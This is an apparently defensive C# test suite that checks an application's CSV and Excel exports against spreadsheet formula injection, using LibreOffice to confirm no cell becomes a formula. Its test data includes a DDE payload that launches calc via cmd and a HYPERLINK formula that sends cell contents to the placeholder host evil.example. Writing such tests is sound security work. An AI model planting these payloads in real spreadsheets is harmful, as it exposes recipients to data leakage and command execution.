using ClosedXML.Excel;
using Hoshi.Core.Csv;
using Hoshi.Core.Evaluation;
using Hoshi.Core.Excel;
using Hoshi.Core.Input;
using Hoshi.Core.Suppliers;

namespace Hoshi.Core.Tests.Spreadsheets;

/// <summary>Text anyone could type, which a spreadsheet would evaluate if it were written as it is.</summary>
internal static class Hostile
{
    public static readonly string[] Values =
    [
        "=1+2", "+1+2", "-1+2", "@SUM(1,2)", "\t=1+2", "\r=1+2", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "=cmd|' /C calc'!A0", "'=1+2", "''=1+2", "'0123", "-", "+81 3 1234 5678", "=", "普通の名前",
    ];

    public static Dictionary<string, string?> SupplierRow(string name) => new() { ["name"] = name, ["relationship"] = name, ["tags"] = "タグ" };
}

/// <summary>The CSV exports opened in LibreOffice Calc once for the whole class (a run takes seconds).</summary>
public sealed class LibreOfficeCsvFixture : IDisposable
{
    public LibreOfficeCsvFixture()
    {
        Directory.CreateDirectory(Folder);
        using (var supplierCsv = File.Create(Path.Combine(Folder, "suppliers.csv")))
        {
            SupplierTableWriter.WriteCsv(Hostile.Values.Select(Hostile.SupplierRow), "ja", supplierCsv);
        }

        // The same values written without Hoshi's writer: proves that LibreOffice does evaluate such a file.
        File.WriteAllText(Path.Combine(Folder, "unguarded.csv"), "name\r\n" + string.Join("\r\n", Hostile.Values.Where(v => !v.Contains('\r')).Select(v => "\"" + v.Replace("\"", "\"\"") + "\"")) + "\r\n");
        IndependentReaders.ConvertCsvToXlsx(Folder);
    }

    public string Folder { get; } = Path.Combine(Path.GetTempPath(), $"hoshi-csv-{Guid.NewGuid():N}");

    public IReadOnlyList<ReadCell> Opened(string name) => IndependentReaders.ReadXlsx(Path.Combine(Folder, name + ".xlsx"));

    public void Dispose() => Directory.Delete(Folder, recursive: true);
}

public sealed class FormulaInjectionTests(LibreOfficeCsvFixture libreOffice) : IClassFixture<LibreOfficeCsvFixture>
{
    [Fact]
    public void LibreOffice_evaluates_a_CSV_written_without_the_guard()
    {
        var formulas = libreOffice.Opened("unguarded").Where(c => c.IsFormula).Select(c => c.Value).ToList();
        Assert.Contains("=1+2", formulas);
        Assert.Contains("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", formulas);
    }

    [Fact]
    public void No_cell_of_the_supplier_CSV_export_is_a_formula_in_LibreOffice()
    {
        var cells = libreOffice.Opened("suppliers");
        Assert.DoesNotContain(cells, c => c.IsFormula);
        // Every hostile value is there, as text (with the quote that keeps it text where there is one).
        var names = cells.Where(c => c.Reference.StartsWith('B') && c.Reference != "B1").Select(c => c.Value).ToList();
        Assert.Equal(Hostile.Values.Length, names.Count);
        Assert.Contains("'=1+2", names);
        Assert.Contains("普通の名前", names);
    }

    [Fact]
    public void The_supplier_CSV_export_reads_back_unchanged()
    {
        using var csv = new MemoryStream();
        SupplierTableWriter.WriteCsv(Hostile.Values.Select(Hostile.SupplierRow), "ja", csv);
        csv.Position = 0;
        var table = SupplierTableReader.Read(csv, "suppliers.csv");
        Assert.Equal(Hostile.Values, table.Rows.Select(r => r.Cells["name"]));
        Assert.Equal(Hostile.Values, table.Rows.Select(r => r.Cells["relationship"]));
    }

    [Fact]
    public void The_supplier_Excel_export_holds_text_cells_only_and_reads_back_unchanged()
    {
        using var xlsx = new MemoryStream();
        SupplierTableWriter.WriteExcel(Hostile.Values.Select(Hostile.SupplierRow), "ja", xlsx);
        var cells = IndependentReaders.ReadXlsx(xlsx.ToArray());
        Assert.DoesNotContain(cells, c => c.IsFormula);
        Assert.All(cells, c => Assert.Equal("s", c.Type));
        var names = cells.Where(c => c.Reference.StartsWith('B') && c.Reference != "B1").Select(c => c.Value).ToList();
        Assert.Equal(Hostile.Values.Select(ExcelText), names);

        xlsx.Position = 0;
        var table = SupplierTableReader.Read(xlsx, "suppliers.xlsx");
        Assert.Equal(Hostile.Values.Select(ExcelText), table.Rows.Select(r => r.Cells["name"]));
    }

    [Fact]
    public void The_check_sheet_holds_text_cells_only_and_its_answers_read_back_unchanged()
    {
        var catalog = TestFiles.Catalog;
        var assessment = Guid.NewGuid();
        var criteria = catalog.CriteriaUpTo(3).Take(Hostile.Values.Length).ToList();
        var answers = criteria.Select((c, i) => (c.Id, Value: Hostile.Values[i])).ToDictionary(
            x => x.Id,
            x => new CheckSheetAnswer(AnswerStatus.Partial, x.Value, x.Value, x.Value, 1, [x.Value + ".pdf"], null));
        using var xlsx = new MemoryStream();
        CheckSheetWriter.Write(xlsx, catalog, assessment, "=HYPERLINK(\"http://evil.example\",\"評価\")", 3, answers, DateTimeOffset.UnixEpoch);

        var cells = IndependentReaders.ReadXlsx(xlsx.ToArray());
        Assert.DoesNotContain(cells, c => c.IsFormula);
        Assert.Contains(cells, c => c.Reference == "A1" && c.Type == "s" && c.Value!.StartsWith("=HYPERLINK", StringComparison.Ordinal));

        xlsx.Position = 0;
        var rows = CheckSheetReader.Read(xlsx, "sheet.xlsx", catalog, assessment, 3).ToDictionary(r => r.CriterionId);
        foreach (var (criterion, i) in criteria.Select((c, i) => (c, i)))
        {
            // The reader trims what a person may have padded; the values are otherwise as written.
            var expected = ExcelText(Hostile.Values[i]).Trim();
            Assert.Equal((expected, expected, expected), (rows[criterion.Id].Justification, rows[criterion.Id].Note, rows[criterion.Id].Owner));
        }
    }

    [Fact]
    public void Answers_CSV_written_by_Hoshis_writer_reads_back_unchanged_and_a_hand_written_quote_keeps_text_text()
    {
        using var text = new StringWriter();
        var writer = new CsvWriter(text);
        writer.WriteRecord("criterion", "status", "justification");
        writer.WriteRecord("2.1", "partial", "=1+2");
        writer.WriteRecord("2.2", "partial", "'0123");
        writer.WriteRecord("5.1", "partial", "-");
        Assert.Contains("2.1,partial,'=1+2\r\n", text.ToString(), StringComparison.Ordinal);

        var answers = AnswerFile.Parse(new StringReader(text.ToString()), "answers.csv", TestFiles.Catalog);
        Assert.Equal(["=1+2", "'0123", "-"], answers.Select(a => a.Justification));

        var typed = AnswerFile.Parse(new StringReader("criterion,status,justification\n2.1,partial,'=A1\n2.2,partial,'0123\n"), "answers.csv", TestFiles.Catalog);
        Assert.Equal(["=A1", "'0123"], typed.Select(a => a.Justification));
    }

    /// <summary>XML has no way to keep a lone CR in cell text (readers turn it into LF); every other character survives.</summary>
    private static string ExcelText(string value) => value.Replace("\r", "\n", StringComparison.Ordinal);
}
